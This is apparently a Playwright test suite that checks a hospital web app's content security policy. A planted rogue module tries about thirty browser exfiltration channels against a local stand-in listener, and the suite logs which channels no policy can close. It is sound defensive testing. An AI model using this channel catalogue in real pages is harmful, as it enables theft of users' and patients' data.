import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { goOn, goOnOrStay } from '../support/go-on'
import { BASE_URL, expect as liveExpect, test as liveTest, logIn, worklist } from '../support/live'
import { addRogue } from '../support/rogue'
import { enter, expect, test } from '../support/suite'
import { visit } from '../support/tour'

/** A second listener, which nobody of ours names: what reaches it has left the hospital. */
async function listen(): Promise<{ origin: string; reached: string[]; close(): void }> {
  const reached: string[] = []
  const server: Server = createServer((request, response) => {
    reached.push(String(request.url))
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/plain' }).end('x')
  })
  server.on('upgrade', (request, socket) => {
    reached.push(String(request.url))
    socket.destroy()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  return { origin: `http://localhost:${(server.address() as AddressInfo).port}`, reached, close: () => void server.close() }
}

/** Ways by which code in the page could send something away; `to` is the address of the way. */
const CHANNELS = `{
  fetch: (to) => fetch(to, { mode: 'no-cors' }),
  'fetch keepalive': (to) => fetch(to, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  XMLHttpRequest: (to) => { const x = new XMLHttpRequest(); x.open('GET', to); x.send() },
  sendBeacon: (to) => navigator.sendBeacon(to, 'x'),
  EventSource: (to) => new EventSource(to),
  WebSocket: (to) => new WebSocket(to.replace('http', 'ws')),
  WebTransport: (to) => new WebTransport(to.replace('http:', 'https:')),
  image: (to) => { new Image().src = to },
  'image set': (to) => { const i = new Image(); i.srcset = to + ' 1x'; document.body.append(i) },
  'svg image': (to) => { document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + to + '"/></svg>') },
  script: (to) => make('script', { src: to }),
  'module script': (to) => make('script', { src: to, type: 'module' }),
  import: (to) => import(to),
  stylesheet: (to) => make('link', { rel: 'stylesheet', href: to }),
  'address in a style': (to) => { document.body.style.backgroundImage = 'url("' + to + '")' },
  'font face': (to) => new FontFace('evil', 'url("' + to + '")').load(),
  video: (to) => make('video', { src: to }),
  audio: (to) => make('audio', { src: to }),
  track: (to) => { const v = make('video', {}); v.append(Object.assign(document.createElement('track'), { src: to, default: true })) },
  iframe: (to) => make('iframe', { src: to }),
  object: (to) => make('object', { data: to }),
  embed: (to) => make('embed', { src: to }),
  preload: (to) => make('link', { rel: 'preload', as: 'fetch', href: to, crossOrigin: '' }),
  prefetch: (to) => make('link', { rel: 'prefetch', href: to }),
  modulepreload: (to) => make('link', { rel: 'modulepreload', href: to }),
  manifest: (to) => make('link', { rel: 'manifest', href: to }),
  icon: (to) => make('link', { rel: 'icon', href: to }),
  worker: (to) => new Worker(to),
  'fetch in a worker': (to) => new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '", { mode: "no-cors" })']))),
  form: (to) => { const f = make('form', { action: to, method: 'post', target: 'elsewhere' }); f.submit() },
  'form into a frame': (to) => { const i = make('iframe', { name: 'inner' }); const f = make('form', { action: to, target: 'inner' }); f.submit() },
  ping: (to) => { const a = make('a', { href: '#/rogue' }); a.ping = to; a.click() },
}`

test('[FD-16] thirty ways by which a module could send something to another host: none arrives, and what no policy stops is named', async ({
  page,
  server,
  context,
}) => {
  const away = await listen()
  const code = `var mf_rogue = { init() {}, get: async () => () => ({ default: { bootstrap: async () => {}, unmount: async () => {}, unload: async () => {},
    mount: async ({ container }) => {
      container.textContent = 'the rogue is here'
      const make = (tag, props) => { const e = Object.assign(document.createElement(tag), props); document.body.append(e); return e }
      const channels = ${CHANNELS}
      globalThis.sendAway = async (origin) => {
        for (const [name, send] of Object.entries(channels)) try { await Promise.race([send(origin + '/' + encodeURIComponent(name)), new Promise((go) => setTimeout(go, 150))]) } catch {}
        return Object.keys(channels)
      }
    } } }) }`
  addRogue(server, code)
  await enter(page, server, '/rogue')
  await expect(page.getByText('the rogue is here')).toBeVisible()
  await context.route('**/favicon.ico', (route) => route.abort())
  const tried = await page.evaluate(
    (origin) => (globalThis as unknown as { sendAway(origin: string): Promise<string[]> }).sendAway(origin),
    away.origin,
  )
  await page.waitForTimeout(1500)
  expect(tried.length).toBeGreaterThanOrEqual(30)
  const arrived = away.reached.map(decodeURIComponent)
  expect(arrived).toEqual([])

  // The listener does hear: an empty result would prove nothing otherwise. And these ways no policy of a page can close.
  const popup = await page.evaluate((origin) => window.open(`${origin}/popup`) !== null, away.origin)
  await expect.poll(() => away.reached).toContain('/popup')
  const stun = await page.evaluate(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.1:3478' }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription(await peer.createOffer())
    return true
  })
  await page.evaluate((origin) => void location.assign(`${origin}/navigation`), away.origin)
  await expect.poll(() => away.reached).toContain('/navigation')
  console.log(`  ${tried.length} channels tried, ${arrived.length} arrived`)
  console.log(
    `  residual: a new window (${popup ? 'open' : 'closed'}), leaving the page (open), WebRTC (${stun ? 'open' : 'closed'}), look-ups of host names (open)`,
  )
  away.close()
})

/** Every page that exists, by its route; those of the report need an exam and come by a click. */
const TOUR = [
  '/blank',
  '/local_diagnosis',
  '/add_procedure',
  '/appointment',
  '/diagnose_list',
  '/triage',
  '/remote_diagnosis',
  '/consultation_list',
  '/morning_meeting_list',
  '/statistics',
  '/statistics/reportQuality',
  '/manage',
  '/manage/medical_unit',
  '/user_center/user_info',
  '/no_such_page',
]

liveTest(
  '[BR-01, FED-14] a tour of every screen under the server’s own header: no violation, no request to another origin',
  async ({ page }) => {
    liveTest.setTimeout(300_000)
    const foreign: string[] = []
    const violations: string[] = []
    await page.exposeFunction('tellViolation', (text: string) => void violations.push(text))
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        const { tellViolation } = globalThis as unknown as { tellViolation(text: string): void }
        tellViolation(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`)
      })
    })
    page.context().on('request', (request) => {
      const url = request.url()
      if (!/^(data|blob|about):/.exec(url) && new URL(url).host !== new URL(BASE_URL).host) foreign.push(url)
      if (url.endsWith('/csp-report')) violations.push(`reported: ${request.postData()}`)
    })
    const sockets: string[] = []
    page.on('websocket', (socket) => sockets.push(socket.url()))

    const answer = await page.goto(`${BASE_URL}/#/login`)
    const headers = answer!.headers()
    liveExpect(headers['content-security-policy']).toContain("script-src 'self' 'wasm-unsafe-eval';")
    liveExpect(headers['content-security-policy']).not.toMatch(/unsafe-inline|'unsafe-eval'/)
    liveExpect(headers['integrity-policy']).toContain('blocked-destinations=(script)')
    await logIn(page, 'zhang')
    const declared = await page.evaluate(async () => {
      const set = await (await fetch('/modules.json')).json()
      const { modules } = JSON.parse(set.set) as { modules: { routes: { path: string; redirect?: string; public?: boolean }[] }[] }
      return modules.flatMap(({ routes }) =>
        routes.filter(({ redirect, public: open }) => redirect === undefined && !open).map(({ path }) => path),
      )
    })
    const routes = [...new Set([...TOUR, ...declared.filter((path) => !path.includes(':') && !path.includes('report'))])]
    const back = () => goOnOrStay(page, '#/blank', 2000)
    for (const route of routes) {
      await visit(page, route)
      // By the start, which makes the work type local again, from an address of the AI's or a clinic's tree.
      if ((await page.evaluate(() => localStorage.getItem('千里眼WORK_TYPE'))) !== 'local') await back()
    }
    liveExpect(routes.length).toBeGreaterThan(20)

    // A report with its images: the viewer with its worker and codecs.
    await back()
    await goOn(page, '#/local_diagnosis')
    await worklist.grid(page).getByRole('row').nth(1).click()
    await page.keyboard.press('Enter')
    await liveExpect(page).toHaveURL(/edit_report|view_report/)
    await page.waitForTimeout(6000)
    console.log(`  ${routes.length + 1} screens, ${violations.length} violations, ${foreign.length} requests to another origin`)
    liveExpect(violations).toEqual([])
    liveExpect(foreign).toEqual([])
    liveExpect(sockets.length).toBeGreaterThan(0)
    for (const socket of sockets) liveExpect(new URL(socket).host).toBe(new URL(BASE_URL).host)
  },
)
